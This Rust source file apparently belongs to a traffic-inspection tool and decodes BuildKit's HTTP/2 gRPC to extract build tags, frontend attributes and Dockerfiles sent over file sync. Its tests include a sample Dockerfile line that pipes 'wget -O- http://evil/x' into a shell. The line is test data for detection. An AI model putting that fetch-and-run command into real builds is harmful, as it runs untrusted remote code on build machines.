//! BuildKit's gRPC as the daemon reads it from a client, decoded (HTTP/2 with HPACK, then
//! protobuf): the `Solve` request's exporter and frontend attributes on the control
//! connection (`/grpc`, or the API socket itself with HTTP/2 prior knowledge), and the files
//! the client sends through the session's file sync (`/session`): the Dockerfile travels there,
//! not in a tar. When bytes are missing from the capture the decoder stops and the marker
//! scanner (`buildkit`) is all there is.
use std::collections::BTreeMap;

use super::{
    buildkit::{Marker, SessionFacts},
    h2::{H2Event, H2Reader},
    protobuf::{self, Value},
};

const SOLVE_PATH: &str = "/moby.buildkit.v1.Control/Solve";
const CONTROL_PREFIX: &str = "/moby.buildkit.v1.Control/";
/// A Dockerfile is kept up to this size.
const MAX_DOCKERFILE: usize = 1 << 20;
/// File-sync streams and file entries followed per connection.
const MAX_SYNC_STREAMS: usize = 16;
const MAX_STATS: usize = 4096;

/// fsutil's packet types.
const PACKET_STAT: u64 = 0;
const PACKET_DATA: u64 = 2;

/// A file the client sent whose name says it is a Dockerfile.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SyncedDockerfile {
    pub path: String,
    pub text: String,
}

#[derive(Debug, Default)]
struct SyncStream {
    /// Paths by file id (the index of their STAT packet).
    paths: Vec<String>,
    /// Content of Dockerfile-named files being received, by id.
    receiving: BTreeMap<u64, Vec<u8>>,
}

#[derive(Default)]
pub struct SessionDecoder {
    h2: H2Reader,
    sync: BTreeMap<u32, SyncStream>,
    /// Dockerfiles received whole, oldest first.
    pub dockerfiles: Vec<SyncedDockerfile>,
}

impl SessionDecoder {
    /// Whether decoding still follows the stream.
    pub fn decoding(&self) -> bool {
        self.h2.failed().is_none()
    }

    /// `len` bytes moved that the capture left out.
    pub fn gap(&mut self, len: u64) {
        // A cut Solve or file-sync packet is of no use: the marker scanner has the rest.
        let _cut = self.h2.gap(len);
    }

    /// Decodes the next bytes; returns whether `facts` or `dockerfiles` learned something.
    pub fn feed(&mut self, bytes: &[u8], facts: &mut SessionFacts) -> bool {
        let before = (facts.clone(), self.dockerfiles.len());
        for event in self.h2.feed(bytes) {
            match event {
                H2Event::Headers { fields, .. } => {
                    if let Some((_, path)) = fields.iter().find(|(name, _)| name == ":path") {
                        if path == SOLVE_PATH {
                            facts.markers.insert(Marker::Solve);
                        }
                        if path.starts_with(CONTROL_PREFIX) {
                            facts.markers.insert(Marker::Control);
                        }
                        if path.starts_with("/moby.filesync.v1.FileSync/") {
                            facts.markers.insert(Marker::FileSync);
                        }
                    }
                }
                H2Event::Message {
                    path: Some(path),
                    bytes,
                    ..
                } if path == SOLVE_PATH => solve_request(&bytes, facts),
                // Messages on streams whose request went the other way: the client answering
                // the daemon's calls into the session (file sync).
                H2Event::Message {
                    stream,
                    path: None,
                    bytes,
                } => self.sync_packet(stream, &bytes),
                H2Event::Message { .. } | H2Event::Truncated { .. } => {}
            }
        }
        (facts.clone(), self.dockerfiles.len()) != before
    }

    fn sync_packet(&mut self, stream: u32, message: &[u8]) {
        let Some(fields) = protobuf::fields(message) else {
            return;
        };
        let (mut kind, mut id, mut stat, mut data) = (None, 0, None, None);
        for (number, value) in fields {
            match (number, value) {
                (1, Value::Varint(v)) => kind = Some(v),
                (2, Value::Bytes(b)) => stat = Some(b),
                (3, Value::Varint(v)) => id = v,
                (4, Value::Bytes(b)) => data = Some(b),
                _ => {}
            }
        }
        if !self.sync.contains_key(&stream) && self.sync.len() >= MAX_SYNC_STREAMS {
            return;
        }
        let sync = self.sync.entry(stream).or_default();
        match (kind.unwrap_or(PACKET_STAT), stat, data) {
            (PACKET_STAT, Some(stat), _) => {
                let path = protobuf::fields(stat)
                    .and_then(|fields| {
                        fields
                            .into_iter()
                            .find_map(|(number, value)| match (number, value) {
                                (1, Value::Bytes(path)) => Some(String::from_utf8_lossy(path).into_owned()),
                                _ => None,
                            })
                    })
                    .unwrap_or_default();
                if sync.paths.len() < MAX_STATS {
                    if is_dockerfile_name(&path) {
                        sync.receiving.insert(sync.paths.len() as u64, Vec::new());
                    }
                    sync.paths.push(path);
                }
            }
            (PACKET_DATA, _, data) => {
                let Some(content) = sync.receiving.get_mut(&id) else {
                    return;
                };
                match data.filter(|d| !d.is_empty()) {
                    Some(chunk) if content.len() + chunk.len() <= MAX_DOCKERFILE => {
                        content.extend_from_slice(chunk)
                    }
                    Some(_) => {
                        sync.receiving.remove(&id);
                    }
                    // An empty DATA packet ends the file.
                    None => {
                        let content = sync.receiving.remove(&id).unwrap_or_default();
                        let path = sync.paths.get(id as usize).cloned().unwrap_or_default();
                        if self.dockerfiles.len() < MAX_SYNC_STREAMS {
                            self.dockerfiles.push(SyncedDockerfile {
                                path,
                                text: String::from_utf8_lossy(&content).into_owned(),
                            });
                        }
                    }
                }
            }
            _ => {}
        }
    }
}

/// `Dockerfile`, `Containerfile`, `x.Dockerfile`, `Dockerfile.x`, in any directory.
fn is_dockerfile_name(path: &str) -> bool {
    let name = path.rsplit('/').next().unwrap_or(path).to_ascii_lowercase();
    name == "dockerfile"
        || name == "containerfile"
        || name.ends_with(".dockerfile")
        || name.starts_with("dockerfile.")
}

/// A `SolveRequest`: exporter attributes (field 4, and each exporter's of field 13 in newer
/// BuildKit) name the images; frontend (6) and its attributes (7) say how it was built.
fn solve_request(message: &[u8], facts: &mut SessionFacts) {
    let Some(fields) = protobuf::fields(message) else {
        return;
    };
    let mut exporter_attrs = Vec::new();
    let mut session = None;
    for (number, value) in fields {
        match (number, value) {
            (4, Value::Bytes(entry)) => exporter_attrs.extend(protobuf::string_entry(entry)),
            (13, Value::Bytes(exporter)) => {
                for (inner, value) in protobuf::fields(exporter).unwrap_or_default() {
                    if let (2, Value::Bytes(entry)) = (inner, value) {
                        exporter_attrs.extend(protobuf::string_entry(entry));
                    }
                }
            }
            (5, Value::Bytes(id)) if !id.is_empty() && id.len() <= 128 => {
                session = Some(String::from_utf8_lossy(id).into_owned());
            }
            (6, Value::Bytes(frontend)) if frontend == b"dockerfile.v0" => {
                facts.markers.insert(Marker::DockerfileFrontend);
            }
            (7, Value::Bytes(entry)) => {
                if let Some((key, value)) = protobuf::string_entry(entry) {
                    facts.add_frontend_attribute(&key, value);
                }
            }
            _ => {}
        }
    }
    // buildx makes smaller Solve calls first; the build's own names what it exports.
    if !exporter_attrs.is_empty() {
        facts.session = session.or(facts.session.take());
    }
    for (key, value) in exporter_attrs {
        if key == "name" {
            facts.add_tags(&value);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::protocol::{
        h2::tests::{frame, grpc, header_block},
        protobuf::tests::{bytes_field, entry, varint_field},
    };

    fn solve_message() -> Vec<u8> {
        let mut exporter = bytes_field(1, b"image");
        exporter.extend(bytes_field(
            2,
            &entry("name", "127.0.0.1:5000/evil:1,evil:latest"),
        ));
        let mut message = bytes_field(1, b"ref-1");
        message.extend(bytes_field(5, b"4g5kixlw8iszjfap3g67t78ig"));
        message.extend(bytes_field(13, &exporter));
        message.extend(bytes_field(6, b"dockerfile.v0"));
        message.extend(bytes_field(7, &entry("filename", "Dockerfile.evil")));
        message.extend(bytes_field(7, &entry("build-arg:TOKEN", "s3cret")));
        message
    }

    #[test]
    fn a_solve_request_over_http2() {
        let mut encoder = httlib_hpack::Encoder::default();
        let mut wire = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
        let block = header_block(&mut encoder, &[(":method", "POST"), (":path", SOLVE_PATH)]);
        wire.extend(frame(1, 4, 1, &block));
        wire.extend(frame(0, 1, 1, &grpc(&solve_message())));
        let mut decoder = SessionDecoder::default();
        let mut facts = SessionFacts::default();
        let mut learned = false;
        for piece in wire.chunks(5) {
            learned |= decoder.feed(piece, &mut facts);
        }
        assert!(learned);
        assert!(facts.markers.contains(&Marker::Solve));
        assert!(facts.markers.contains(&Marker::DockerfileFrontend));
        assert_eq!(
            facts.tags.iter().collect::<Vec<_>>(),
            ["127.0.0.1:5000/evil:1", "evil:latest"]
        );
        assert_eq!(facts.dockerfile.as_deref(), Some("Dockerfile.evil"));
        assert_eq!(facts.build_arg_keys.iter().collect::<Vec<_>>(), ["TOKEN"]);
        assert_eq!(
            facts.session.as_deref(),
            Some("4g5kixlw8iszjfap3g67t78ig"),
            "the build's session"
        );
        // A Solve that exports nothing (buildx's preliminary calls) names no build session.
        let mut probe = bytes_field(1, b"ref-0");
        probe.extend(bytes_field(5, b"otherotherotherotherother"));
        let mut facts = SessionFacts::default();
        solve_request(&probe, &mut facts);
        assert_eq!(facts.session, None);
    }

    fn packet(kind: u64, id: u64, stat_path: Option<&str>, data: Option<&[u8]>) -> Vec<u8> {
        let mut message = varint_field(1, kind);
        if let Some(path) = stat_path {
            let mut stat = bytes_field(1, path.as_bytes());
            stat.extend(varint_field(2, 0o644));
            message.extend(bytes_field(2, &stat));
        }
        message.extend(varint_field(3, id));
        if let Some(data) = data {
            message.extend(bytes_field(4, data));
        }
        message
    }

    #[test]
    fn the_dockerfile_from_the_file_sync() {
        // The client's side of a DiffCopy: response headers, STAT packets, then the requested
        // file's DATA packets and the empty one that ends it.
        let mut encoder = httlib_hpack::Encoder::default();
        let mut wire = frame(4, 0, 0, &[]);
        wire.extend(frame(
            1,
            4,
            1,
            &header_block(
                &mut encoder,
                &[(":status", "200"), ("content-type", "application/grpc")],
            ),
        ));
        let mut messages = Vec::new();
        messages.extend(grpc(&packet(PACKET_STAT, 0, Some(".dockerignore"), None)));
        messages.extend(grpc(&packet(PACKET_STAT, 0, Some("Dockerfile"), None)));
        messages.extend(grpc(&packet(
            PACKET_DATA,
            1,
            None,
            Some(b"FROM 127.0.0.1:5000/bwbase:1\n"),
        )));
        messages.extend(grpc(&packet(
            PACKET_DATA,
            1,
            None,
            Some(b"RUN wget -O- http://evil/x | sh\n"),
        )));
        messages.extend(grpc(&packet(PACKET_DATA, 1, None, None)));
        for chunk in messages.chunks(40) {
            wire.extend(frame(0, 0, 1, chunk));
        }
        let mut decoder = SessionDecoder::default();
        let mut facts = SessionFacts::default();
        for piece in wire.chunks(13) {
            decoder.feed(piece, &mut facts);
        }
        assert!(decoder.decoding());
        assert_eq!(
            decoder.dockerfiles,
            [SyncedDockerfile {
                path: "Dockerfile".into(),
                text: "FROM 127.0.0.1:5000/bwbase:1\nRUN wget -O- http://evil/x | sh\n".into()
            }]
        );
    }

    /// Inputs the fuzz target crashed on (an HPACK integer cut by the end of its block), fed
    /// the way the target feeds them.
    #[test]
    fn fuzz_crashes_stay_fixed() {
        let dir = std::path::PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("testdata/crashes");
        for name in ["buildkit_grpc-truncated-integer.bin", "buildkit_grpc-ci-2.bin"] {
            let data = std::fs::read(dir.join(name)).unwrap();
            let (&shape, stream) = data.split_first().unwrap();
            let piece = usize::from(shape % 61) * 71 + 1;
            let mut decoder = SessionDecoder::default();
            let mut facts = SessionFacts::default();
            for (i, chunk) in stream.chunks(piece).enumerate() {
                decoder.feed(chunk, &mut facts);
                if shape & 0x80 != 0 && i % 3 == 2 {
                    decoder.gap(u64::from(chunk[0]));
                }
            }
        }
    }

    #[test]
    fn names_of_dockerfiles() {
        for name in [
            "Dockerfile",
            "sub/Containerfile",
            "app.Dockerfile",
            "Dockerfile.prod",
        ] {
            assert!(is_dockerfile_name(name), "{name}");
        }
        for name in ["main.go", "Dockerfiles/x", "notdockerfile"] {
            assert!(!is_dockerfile_name(name), "{name}");
        }
    }
}
